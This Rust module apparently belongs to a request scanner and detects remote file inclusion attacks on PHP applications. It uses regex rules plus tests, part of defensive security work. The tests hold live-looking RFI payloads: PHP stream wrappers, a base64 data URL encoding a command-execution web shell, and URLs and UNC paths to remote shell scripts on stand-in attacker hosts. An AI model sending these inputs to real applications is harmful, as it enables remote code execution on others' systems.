//! Remote file inclusion: a value that makes a script include code from somewhere else.
//!
//! A URL in an API value is normal (webhooks, avatars, links), so a URL alone is never a finding.
//! What is: a stream wrapper only PHP's `include` understands (`php://filter`, `expect://`,
//! `phar://`, `data://text/plain;base64,`), a URL whose trailing `?`, `#` or NUL cuts off the
//! suffix the application appends, a URL in a *path segment* (`/get/https://evil/`), and a URL in
//! a parameter whose name says it is included (`include`, `template`, `mosConfig_absolute_path`).
//! The name is the key that holds the value (`$.template_repository.owner.url` is a `url`), and
//! in a JSON text field, where APIs keep URL templates and template links, only a URL naming
//! script source or cutting off a suffix is one there; any other URL there is Medium.
//! A parameter that picks a file or page to load (`file`, `page`, `skin`) is one when it names
//! script source on another host (`https://x/payload.php`) or fetches over FTP; one that picks a
//! page, skin or language (code the application includes) is one even for a remote `.txt` file,
//! the usual way to serve PHP source unexecuted; a `data:` URL of PHP source
//! (by media type, or `<?php` as its data, also in base64) is one anywhere; a Windows UNC
//! path (`\\host\share\shell.php`, PHP on Windows includes over SMB) is one when it names a
//! script or sits in an include parameter.

use super::gate::{gated, lit, starts_word};
use super::{is_json_text, Check, Family, Hit, Rules, Subject, Trigger};
use crate::fields::Part;
use crate::finding::Severity::{Critical, High, Medium};
use crate::sensitive::context::last_key;

pub(crate) struct Rfi {
    rules: Rules,
    url: regex::Regex,
    path_scheme: regex::Regex,
    include_name: regex::Regex,
    loader_name: regex::Regex,
    script_url: regex::Regex,
    /// A parameter that picks a page, skin or language: code the application includes, so even
    /// a remote text file is a script to it.
    page_name: regex::Regex,
    text_url: regex::Regex,
    /// A `data:` URL whose content is PHP source.
    data_url: regex::Regex,
    unc: regex::Regex,
    unc_script: regex::Regex,
}

impl Rfi {
    pub fn new() -> Result<Rfi, String> {
        let table = [
            (r"(?:^|[\s=(])(?:php|expect|phar|zip|compress\.zlib|compress\.bzip2|glob|ogg|rar|zlib)://", Critical, 0.9, "PHP stream wrapper"),
            (r"(?:^|[\s=(])data://(?:text|application)/", Critical, 0.9, "data:// stream wrapper"),
            // A data URL whose media type is PHP source (`data:application/x-httpd-php;base64,..`).
            (r"(?:^|[\s=(])data:(?:text|application)/[a-z0-9.+-]*php[a-z0-9.+-]*[;,]", Critical, 0.9, "data: URL of PHP source"),
            (r"^(?:https?|ftps?)://[^\s]+\.(?:txt|php\d?|phtml|inc|jpg|gif|png)\?+$", High, 0.8, "remote script URL with suffix cut-off"),
            (r"^(?:https?|ftps?)://[^\s?]+\?{2,}$|^(?:https?|ftps?)://\S+%00", High, 0.8, "remote URL with suffix cut-off"),
        ];
        Ok(Rfi {
            rules: Rules::new(Family::Rfi, &table)?,
            url: super::regex(r"^(?:https?|ftps?|file):/{1,3}[^\s]")?,
            path_scheme: super::regex(r"^(?:https?|ftps?|file):(?:$|/)")?,
            include_name: super::regex(r"(?i)(?:include|inc_?file|require|template|tpl|mosconfig|absolute_path|_conf\[|conf\[|rootpath|root_path|base_?dir|appdir|lib_?path|module_?path|page_?file|load_?file)")?,
            loader_name: super::regex(r"(?i)(?:^|[_.\[-])(?:file|filename|page|skin|theme|style|layout|view|module|plugin|path|dir|folder|doc|lang|load|content)(?:$|[_.\]-])")?,
            script_url: super::regex(&format!(r"^(?:https?|ftps?)://[^\s?#]+\.{SCRIPT}\?*$|^ftps?://\S"))?,
            page_name: super::regex(r"(?i)(?:^|[_.\[-])(?:page|skin|theme|layout|view|module|plugin|lang|language|locale)(?:$|[_.\]-])")?,
            text_url: super::regex(r"^(?:https?|ftps?)://[^\s?#]+\.txt\?*$")?,
            // `<?php` or `<?=` as the data, plain or in base64 (`PD9waHA`, `PD89`).
            data_url: super::regex(r"^data:(?:text|application)/[a-z0-9.+-]*(?:;[a-z0-9=.-]+)*,(?:\s*<\?(?:php|=)|pd9waha|pd89)")?,
            unc: super::regex(UNC)?,
            unc_script: super::regex(&format!(r"{UNC}\.{SCRIPT}\s*$"))?,
        })
    }
}

/// The extensions of script source PHP would run if included.
const SCRIPT: &str = r"(?:php\d?|phtml|phar|inc)";

/// A Windows UNC path: `\\host\share\...`.
const UNC: &str = r"^\\\\[a-z0-9._-]+\\\S+";

impl Check for Rfi {
    fn triggers(&self) -> &'static [Trigger] {
        const T: &[Trigger] = &[
            lit("://"),
            gated("http:", starts_word),
            gated("https:", starts_word),
            gated("ftp:", starts_word),
            gated("file:", starts_word),
            gated("data:", starts_word),
            lit("\\\\"),
        ];
        T
    }

    fn check(&self, s: &Subject<'_>) -> Option<Hit> {
        if let Some(hit) = self.rules.best(s.text) {
            return Some(hit);
        }
        // Path segments are split at `/`, so `/get/https://x/` arrives as the segment `https:`.
        if s.part == Part::Path && self.path_scheme.is_match(s.text) {
            return Some(Hit::new(Family::Rfi, High, 0.8, 0, "URL in a path segment"));
        }
        // A JSON path's own key; a form or query name (`_conf[path]`) whole.
        let key = if s.name.starts_with('$') { last_key(s.name) } else { s.name };
        if self.url.is_match(s.text) {
            if self.include_name.is_match(key) {
                let hit = Hit::new(Family::Rfi, High, 0.8, 0, "URL in an include parameter");
                // `"url_template": "https://x/ticket?q=<num>"`: a link an API stores, not one it includes.
                let stored = is_json_text(s) && !self.script_url.is_match(s.text);
                return Some(if stored { hit.at_most(Medium, 0.6) } else { hit });
            }
            if self.loader_name.is_match(key) && self.script_url.is_match(s.text) {
                return Some(Hit::new(Family::Rfi, High, 0.8, 0, "remote script in a file parameter"));
            }
            if self.page_name.is_match(s.name) && self.text_url.is_match(s.text) {
                return Some(Hit::new(Family::Rfi, High, 0.8, 0, "remote text file as a page to include"));
            }
        }
        if self.data_url.is_match(s.text) {
            return Some(Hit::new(Family::Rfi, High, 0.8, 0, "data: URL of PHP source"));
        }
        if (self.unc.is_match(s.text) && self.include_name.is_match(key)) || self.unc_script.is_match(s.text) {
            return Some(Hit::new(Family::Rfi, High, 0.8, 0, "UNC path to a remote share"));
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;
    use crate::fields::{Part, ValueType};

    #[test]
    fn catches_rfi() {
        assert_family(
            "attack.rfi",
            &[
                "php://filter/convert.base64-encode/resource=index.php",
                "expect://id",
                "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTsgPz4=",
                "http://evil.example/shell.txt?",
                "https://evil.example/x.php??",
                "phar://uploads/avatar.jpg/x",
            ],
            &[
                "https://example.com/avatar.png",
                "http://example.com/search?q=1",
                "See https://docs.example.com/page?",
                "ftp://mirror.example.org/pub/file.tar.gz",
            ],
        );
        let at = |part, name: &str, v: &str| {
            let f = scan_at(part, ValueType::Text, name, v);
            f.iter().any(|f| f.kind == "attack.rfi")
        };
        assert!(at(Part::Query, "mosConfig_absolute_path", "https://foo.bar"));
        assert!(at(Part::Path, "", "https:"));
        assert!(!at(Part::Query, "webhook_url", "https://hooks.example.com/x"));
        // A file-picking parameter naming remote script source, FTP, or a UNC share.
        assert!(at(Part::Body, "file", "https://attacker.example/payload.php"));
        assert!(at(Part::Query, "page", "http://203.0.113.9/x.phtml?"));
        assert!(at(Part::Cookie, "skin", "ftp://attacker.example/inc.txt"));
        assert!(at(Part::Query, "include", "\\\\attacker.example\\share\\shell.php"));
        assert!(at(Part::Query, "lang", "\\\\10.0.0.5\\s\\x.php"));
        assert!(!at(Part::Body, "webhook_url", "https://shop.example/ipn.php"), "PHP apps take webhooks");
        assert!(!at(Part::Body, "file_url", "https://example.com/download.php?id=3"), "a download link");
        assert!(!at(Part::Body, "profile", "https://me.example/about.php"));
        assert!(!at(Part::Body, "file", "https://cdn.example.com/a.png"));
        assert!(!at(Part::Body, "path", "\\\\fileserver\\share\\report.xlsx"), "an intranet document");
        // A page, skin or language parameter taking a remote text file; data URLs.
        assert!(at(Part::Query, "page", "http://203.0.113.9/inc.txt"));
        assert!(at(Part::Query, "skin", "https://attacker.example/s.txt??"));
        assert!(at(Part::Query, "lang", "http://attacker.example/en.txt"));
        assert!(at(Part::Query, "file", "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"));
        assert!(at(Part::Query, "q", "data:application/x-httpd-php;base64,PD9waHAgcGhwaW5mbygpOz8+"));
        assert!(!at(Part::Body, "file", "https://example.com/licence.txt"), "a file parameter importing a text file");
        assert!(!at(Part::Body, "homepage", "https://example.com/robots.txt"));
        assert!(!at(Part::Body, "avatar", "data:image/png;base64,iVBORw0KGgo="), "an inline image");
        assert!(!at(Part::Query, "q", "data:text/plain,hello"));
        assert!(!at(Part::Body, "file", "data:text/plain;base64,aGVsbG8gd29ybGQ="), "an upload as a data URL");
        assert!(!at(Part::Body, "file", "data:text/xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+"), "XML, not PHP");
    }

    #[test]
    fn the_key_holding_a_url_names_it_not_the_objects_around_it() {
        let rfi = |name: &str, v: &str| flags_in_json_at("attack.rfi", name, v);
        // A repository object made from a template, a URL template an API stores.
        assert!(!rfi("$.template_repository.owner.avatar_url", "https://cdn.example.com/u/7.png"));
        assert!(!rfi("$.items[2].template_repository.html_url", "https://code.example.com/acme/starter"));
        assert!(!rfi("$.url_template", "https://tracker.example.com/browse/<num>"));
        assert!(!rfi("$.email.template", "https://assets.example.com/mail/welcome.html"));
        // Script source from another host, or a cut-off suffix, is an inclusion in JSON too.
        assert!(rfi("$.page.template", "https://attacker.example/x.php"));
        assert!(rfi("$.settings.include_file", "http://attacker.example/shell.txt?"));
        assert!(rfi("$.modules[0].file", "https://attacker.example/p.phtml"));
        // A form or query name is taken whole, brackets included.
        let at = |part, name: &str, v: &str| scan_at(part, ValueType::Text, name, v).iter().any(|f| f.kind == "attack.rfi");
        assert!(at(Part::Query, "_conf[path]", "https://attacker.example/"));
        assert!(at(Part::Query, "template", "https://attacker.example/x.txt"));
    }
}
